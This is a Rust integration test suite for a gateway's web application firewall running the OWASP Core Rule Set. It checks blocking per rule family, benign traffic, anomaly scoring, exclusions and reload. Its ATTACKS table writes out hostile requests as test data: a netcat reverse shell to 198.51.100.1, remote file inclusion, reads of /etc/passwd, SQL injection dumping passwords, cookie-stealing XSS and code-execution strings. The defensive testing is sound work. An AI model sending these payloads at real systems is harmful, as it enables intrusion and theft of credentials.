//! The OWASP CRS (Debian's modsecurity-crs, 3.3.4, loaded unmodified) in the WAF
//! over real sockets: per rule family an attack blocked at paranoia 1 and named
//! in the audit line; benign API traffic passing; higher paranoia levels
//! catching more; anomaly scores worked out by hand; the WAF's `exclude`, CRS
//! exclusion rules (`ctl:`, `SecRuleRemoveById`) and count mode; reload of the
//! CRS on SIGHUP; `check`'s load report and errors in SecLang files.
//!
//! Needs /usr/share/modsecurity-crs (apt: modsecurity-crs, which .ci/run
//! installs): the tests are `#[ignore = "needs modsecurity-crs"]` and run with
//! `--ignored`.

mod common;

use common::*;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

const RULES: &str = "/usr/share/modsecurity-crs/rules";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

/// A gateway whose route `/` is a mock behind `[waf.crs]` with the Debian CRS
/// and setup (`crs` and `crs_setup` overridable through `waf_extra` keys after
/// them), the access log (with audit lines) in access.log.
fn start(waf_extra: &str) -> Gateway {
    let rest = format!(
        "[waf.crs]\ncrs = \"{RULES}\"\ncrs_setup = \"{SETUP}\"\n{waf_extra}\n\n[[route]]\nname = \"app\"\npath = \"/\"\nwaf = \"crs\"\nmock = {{ status = 200, body = \"ok\", content_type = \"text/plain\" }}\n"
    );
    Gateway::start_with_log("", "access = \"access.log\"", &rest)
}

/// Headers a browser or API client sends (CRS scores a request without them).
const CLIENT: &[(&str, &str)] = &[
    ("Host", "api.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    ),
    ("Accept", "application/json, text/plain, */*"),
    ("Accept-Language", "en-US,en;q=0.5"),
];

/// What the gateway answered and what its audit line said.
#[derive(Debug)]
struct Seen {
    status: u16,
    /// CRS rule ids matched (in order), 949110 and the like included.
    rules: Vec<u64>,
    score: Option<i64>,
    action: Option<String>,
}

/// Sends one request (with [`CLIENT`]'s headers unless `headers` names them)
/// and reads the audit line it produced, if any.
fn send(gw: &Gateway, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Seen {
    let mut all: Vec<(&str, &str)> = CLIENT
        .iter()
        .filter(|(n, _)| !headers.iter().any(|(m, _)| m.eq_ignore_ascii_case(n)))
        .copied()
        .collect();
    all.extend_from_slice(headers);
    let len = body.len().to_string();
    if !body.is_empty() {
        all.push(("Content-Length", &len));
    }
    let log = gw.dir.path.join("access.log");
    let before = request_lines(&log);
    let mut c = gw.connect();
    let r = c.request(&req_with_headers(method, path, &all, body));
    // The request's access line comes after its audit line: wait for it.
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut lines;
    loop {
        lines = fs::read_to_string(&log).unwrap_or_default();
        if count_requests(&lines) > before || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let audit = lines
        .lines()
        .filter(|l| !l.contains("\"type\":\"waf\""))
        .count();
    assert!(audit > before, "no access line for {path}");
    // The audit line of this request: the last one after the previous access line.
    let mut seen_requests = 0;
    let mut line = None;
    for l in lines.lines() {
        if l.contains("\"type\":\"waf\"") {
            if seen_requests == before {
                line = Some(l.to_string());
            }
        } else {
            seen_requests += 1;
        }
    }
    let v: Option<serde_json::Value> = line.map(|l| serde_json::from_str(&l).unwrap());
    Seen {
        status: r.status,
        rules: v
            .as_ref()
            .map(|v| {
                v["matches"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|m| m["rule"].as_u64().unwrap())
                    .collect()
            })
            .unwrap_or_default(),
        score: v.as_ref().and_then(|v| v["crs_score"].as_i64()),
        action: v
            .as_ref()
            .map(|v| v["action"].as_str().unwrap().to_string()),
    }
}

fn count_requests(log: &str) -> usize {
    log.lines()
        .filter(|l| !l.contains("\"type\":\"waf\""))
        .count()
}

fn request_lines(log: &Path) -> usize {
    count_requests(&fs::read_to_string(log).unwrap_or_default())
}

fn get(gw: &Gateway, path: &str) -> Seen {
    send(gw, "GET", path, &[], b"")
}

/// Attacks per CRS rule family, each blocked at paranoia 1 by a rule of that
/// family: (family, method, path, extra headers, content type, body).
/// (family, method, path, extra headers, content type, body)
type Attack = (
    u64,
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
    &'static str,
    &'static str,
);

const ATTACKS: &[Attack] = &[
    (913, "GET", "/", &[("User-Agent", "Nikto/2.1.6")], "", ""),
    (
        913,
        "GET",
        "/",
        &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        "",
        "",
    ),
    (920, "GET", "/?file=a%00.php", &[], "", ""),
    (
        921,
        "GET",
        "/?lang=en%0d%0aSet-Cookie:%20session=attacker",
        &[],
        "",
        "",
    ),
    (
        930,
        "GET",
        "/download?file=../../../../etc/passwd",
        &[],
        "",
        "",
    ),
    (
        930,
        "GET",
        "/download?file=..%2f..%2f..%2fwindows%2fwin.ini",
        &[],
        "",
        "",
    ),
    (
        931,
        "GET",
        "/page?include=http://203.0.113.7/shell.txt",
        &[],
        "",
        "",
    ),
    (
        932,
        "GET",
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        &[],
        "",
        "",
    ),
    (
        932,
        "POST",
        "/run",
        &[],
        "application/x-www-form-urlencoded",
        "cmd=%7C%20nc%20-e%20%2Fbin%2Fsh%20198.51.100.1%204444",
    ),
    (
        933,
        "GET",
        "/?x=%3C%3Fphp%20system(%24_GET%5B'c'%5D)%3B%20%3F%3E",
        &[],
        "",
        "",
    ),
    (
        934,
        "POST",
        "/api/eval",
        &[],
        "application/json",
        r#"{"code":"this.constructor.constructor('return process')().exit()"}"#,
    ),
    (
        941,
        "GET",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        &[],
        "",
        "",
    ),
    (
        941,
        "POST",
        "/comment",
        &[],
        "application/x-www-form-urlencoded",
        "text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    ),
    (
        942,
        "GET",
        "/items?id=1%27%20OR%20%271%27%3D%271",
        &[],
        "",
        "",
    ),
    (
        942,
        "GET",
        "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        &[],
        "",
        "",
    ),
    (
        942,
        "POST",
        "/api/login",
        &[],
        "application/json",
        r#"{"user":"admin' --","password":"x"}"#,
    ),
    (
        943,
        "GET",
        "/?x=%3Cmeta%20http-equiv%3D%22Set-Cookie%22%20content%3D%22sid%3D1%22%3E",
        &[],
        "",
        "",
    ),
    (
        944,
        "GET",
        "/?class=java.lang.Runtime.getRuntime().exec(%22id%22)",
        &[],
        "",
        "",
    ),
];

#[test]
#[ignore = "needs modsecurity-crs"]
fn each_rule_family_blocks_its_attacks_at_paranoia_1() {
    let gw = start("");
    let mut failures = Vec::new();
    for (family, method, path, headers, ct, body) in ATTACKS {
        let mut h: Vec<(&str, &str)> = headers.to_vec();
        if !ct.is_empty() {
            h.push(("Content-Type", ct));
        }
        let seen = send(&gw, method, path, &h, body.as_bytes());
        let named = seen.rules.iter().any(|id| id / 1000 == *family);
        if seen.status != 403 || !named || seen.action.as_deref() != Some("block") {
            failures.push(format!("{family} {method} {path}: {seen:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Ordinary API traffic, including the text that naive rules misfire on.
const BENIGN: &[(&str, &str, &str, &str)] = &[
    ("GET", "/search?q=hello+world&page=2&sort=price_asc", "", ""),
    ("GET", "/users?name=O%27Brien&city=Dublin", "", ""),
    ("GET", "/search?q=%22best+laptop%22+under+1000", "", ""),
    (
        "GET",
        "/redirect?next=https%3A%2F%2Fexample.com%2Faccount%2Fsettings",
        "",
        "",
    ),
    (
        "GET",
        "/api/v1/orders/12345/items?fields=id,name,price&limit=50",
        "",
        "",
    ),
    (
        "POST",
        "/api/v1/orders",
        "application/json",
        r#"{"customer":{"name":"Mary O'Neil","email":"mary@example.com"},"items":[{"sku":"A-100","qty":2}],"note":"Leave at the door, please."}"#,
    ),
    (
        "POST",
        "/api/v1/posts",
        "application/json",
        r###"{"title":"Release notes","body":"## What changed\n\n* faster startup\n* a *new* `--verbose` flag\n\nSee the docs at https://example.com/docs for more."}"###,
    ),
    (
        "POST",
        "/login",
        "application/x-www-form-urlencoded",
        "username=alice&password=correct+horse+battery+staple&remember=on",
    ),
    (
        "POST",
        "/api/v1/profile",
        "application/json",
        r#"{"bio":"I like hiking, cooking and 80s music.","age":34,"newsletter":true}"#,
    ),
    (
        "GET",
        "/calendar?from=2026-01-01&to=2026-12-31&tz=Europe%2FBerlin",
        "",
        "",
    ),
];

#[test]
#[ignore = "needs modsecurity-crs"]
fn benign_api_traffic_passes() {
    let gw = start("");
    let mut failures = Vec::new();
    for (method, path, ct, body) in BENIGN {
        let h: Vec<(&str, &str)> = if ct.is_empty() {
            vec![]
        } else {
            vec![("Content-Type", ct)]
        };
        let seen = send(&gw, method, path, &h, body.as_bytes());
        if seen.status != 200 || !seen.rules.is_empty() {
            failures.push(format!("{method} {path}: {seen:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Scores as CRS 3.3.4's arithmetic gives them (crs-setup defaults: critical 5,
/// warning 3, threshold 5).
#[test]
#[ignore = "needs modsecurity-crs"]
fn anomaly_scores_follow_crs_arithmetic() {
    let gw = start("");
    // 913100 (scanner User-Agent, CRITICAL): 5 — at the threshold, blocked.
    let s = get_with_headers(&gw, "/", &[("User-Agent", "Nikto/2.1.6")]);
    assert_eq!((s.status, s.score), (403, Some(5)), "{s:?}");
    assert_eq!(s.rules, vec![913100, 949110], "{s:?}");
    // 920350 (numeric Host, WARNING): 3 — under the threshold, passes and is logged.
    let s = get_with_headers(&gw, "/", &[("Host", "192.0.2.10")]);
    assert_eq!((s.status, s.score), (200, Some(3)), "{s:?}");
    assert_eq!(s.rules, vec![920350], "{s:?}");
    assert_eq!(s.action.as_deref(), Some("pass"));
    // Both: 5 + 3 = 8.
    let s = get_with_headers(
        &gw,
        "/",
        &[("Host", "192.0.2.10"), ("User-Agent", "Nikto/2.1.6")],
    );
    assert_eq!((s.status, s.score), (403, Some(8)), "{s:?}");
    // No score for a clean request, and no audit line.
    let s = get(&gw, "/");
    assert_eq!((s.status, s.score), (200, None), "{s:?}");
}

fn get_with_headers(gw: &Gateway, path: &str, h: &[(&str, &str)]) -> Seen {
    send(gw, "GET", path, h, b"")
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn higher_paranoia_levels_detect_more() {
    // Passes at paranoia 1; each level above adds rules that score it.
    let probe = "/items?id=1%20AND%20sleep(5)%23";
    let mut scores = Vec::new();
    for pl in 1..=4 {
        let gw = start(&format!("paranoia = {pl}"));
        scores.push(get(&gw, probe).score.unwrap_or(0));
    }
    assert!(scores.windows(2).all(|w| w[0] <= w[1]), "{scores:?}");
    assert!(scores[3] > scores[0], "{scores:?}");
    // A quote-heavy value that only paranoia 4's character-count rules mind.
    let quotes = "/?q=a%27b%27c%27d%27e";
    let gw1 = start("paranoia = 1");
    let gw4 = start("paranoia = 4");
    let (s1, s4) = (get(&gw1, quotes), get(&gw4, quotes));
    assert!(
        s4.score.unwrap_or(0) > s1.score.unwrap_or(0),
        "{s1:?} {s4:?}"
    );
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn waf_exclude_turns_crs_rules_off() {
    let gw = start("exclude = [{ rule = 913100, path = \"/health\" }]");
    let nikto = [("User-Agent", "Nikto/2.1.6")];
    assert_eq!(get_with_headers(&gw, "/health", &nikto).status, 200);
    assert_eq!(get_with_headers(&gw, "/other", &nikto).status, 403);
}

/// A CRS directory of symlinks to Debian's rules and data, plus `extra` files.
fn crs_dir(dir: &Path, extra: &[(&str, &str)]) -> PathBuf {
    let d = dir.join("crs");
    fs::create_dir_all(&d).unwrap();
    for e in fs::read_dir(RULES).unwrap() {
        let p = e.unwrap().path();
        std::os::unix::fs::symlink(&p, d.join(p.file_name().unwrap())).unwrap();
    }
    for (name, text) in extra {
        fs::write(d.join(name), text).unwrap();
    }
    d
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn crs_exclusion_rules_and_ctl_work() {
    let tmp = TempDir::new("crs-excl");
    let dir = crs_dir(
        &tmp.path,
        &[
            (
                "REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf",
                // The wiki's `text` argument may hold SQL; scanners may probe /scan.
                "SecRule REQUEST_FILENAME \"@beginsWith /wiki\" \"id:1001,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:text\"\n\
                 SecRule REQUEST_FILENAME \"@streq /scan\" \"id:1002,phase:1,pass,nolog,ctl:ruleRemoveById=913100\"\n",
            ),
            (
                "RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf",
                "SecRuleRemoveById 920350\n",
            ),
        ],
    );
    let gw = start_with_dir(&dir);
    let sqli_plain = "1%27%20OR%20%271%27%3D%271";
    assert_eq!(
        get(&gw, &format!("/wiki/page?text={sqli_plain}")).status,
        200
    );
    assert_eq!(
        get(&gw, &format!("/wiki/page?other={sqli_plain}")).status,
        403
    );
    assert_eq!(get(&gw, &format!("/api?text={sqli_plain}")).status, 403);
    let nikto = [("User-Agent", "Nikto/2.1.6")];
    assert_eq!(get_with_headers(&gw, "/scan", &nikto).status, 200);
    assert_eq!(get_with_headers(&gw, "/other", &nikto).status, 403);
    // SecRuleRemoveById after the CRS: numeric Host scores nothing.
    let s = get_with_headers(&gw, "/", &[("Host", "192.0.2.10")]);
    assert_eq!((s.status, s.score), (200, None), "{s:?}");
}

fn start_with_dir(dir: &Path) -> Gateway {
    let rest = format!(
        "[waf.crs]\ncrs = \"{}\"\ncrs_setup = \"{SETUP}\"\n\n[[route]]\nname = \"app\"\npath = \"/\"\nwaf = \"crs\"\nmock = {{ status = 200, body = \"ok\", content_type = \"text/plain\" }}\n",
        dir.display()
    );
    Gateway::start_with_log("", "access = \"access.log\"", &rest)
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn count_mode_logs_and_passes() {
    let gw = start("mode = \"count\"");
    let s = get(&gw, "/items?id=1%27%20OR%20%271%27%3D%271");
    assert_eq!(s.status, 200, "{s:?}");
    assert_eq!(s.action.as_deref(), Some("count"));
    assert!(s.rules.contains(&949110), "{s:?}");
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn sighup_reloads_the_crs_setup() {
    let mut gw = start("");
    let nikto = [("User-Agent", "Nikto/2.1.6")];
    assert_eq!(get_with_headers(&gw, "/", &nikto).status, 403);
    // A setup that raises the threshold to 10: a lone critical match passes.
    let setup = gw.dir.path.join("crs-setup.conf");
    let mut text = fs::read_to_string(SETUP).unwrap();
    text.push_str("\nSecAction \"id:900110,phase:1,nolog,pass,t:none,setvar:tx.inbound_anomaly_score_threshold=10,setvar:tx.outbound_anomaly_score_threshold=4\"\n");
    fs::write(&setup, text).unwrap();
    let config = fs::read_to_string(&gw.config_path).unwrap();
    gw.write_config(&config.replace(SETUP, &setup.display().to_string()));
    gw.signal("HUP");
    let deadline = Instant::now() + Duration::from_secs(10);
    while get_with_headers(&gw, "/", &nikto).status != 200 {
        assert!(
            Instant::now() < deadline,
            "reload did not take: {}",
            gw.logs()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(gw.is_running());
}

#[test]
#[ignore = "needs modsecurity-crs"]
fn check_reports_what_loaded_and_names_errors() {
    let text = format!(
        "[server]\nlisten = [\"127.0.0.1:1\"]\n[waf.crs]\ncrs = \"{RULES}\"\ncrs_setup = \"{SETUP}\"\n[[route]]\nname = \"a\"\npath = \"/\"\nwaf = \"crs\"\nmock = {{ status = 200 }}\n"
    );
    let (code, out, err) = check_config(&text);
    assert_eq!(code, 0, "{out}{err}");
    let line = out
        .lines()
        .find(|l| l.starts_with("waf.crs: CRS: "))
        .unwrap_or_else(|| panic!("{out}"));
    assert!(
        line.contains("910100: @geoLookup needs a GeoIP database"),
        "{line}"
    );
    assert!(line.contains("response-phase rules"), "{line}");

    // An unsupported operator in a request rule: file, line, rule id.
    let tmp = TempDir::new("crs-bad");
    let dir = tmp.path.join("rules");
    fs::create_dir_all(&dir).unwrap();
    fs::write(
        dir.join("bad.conf"),
        "# a comment\nSecRule ARGS \"@fuzzyHash x y\" \\\n    \"id:12345,phase:2,deny\"\n",
    )
    .unwrap();
    let text = text.replace(RULES, &dir.display().to_string());
    let (code, _, err) = check_config(&text);
    assert_eq!(code, 1);
    let bad = dir.join("bad.conf").display().to_string();
    assert!(
        err.contains(&format!(
            "{bad}:2: rule 12345: operator @fuzzyhash is not supported"
        )),
        "{err}"
    );
    assert!(err.contains("waf.crs.crs"), "{err}");
}
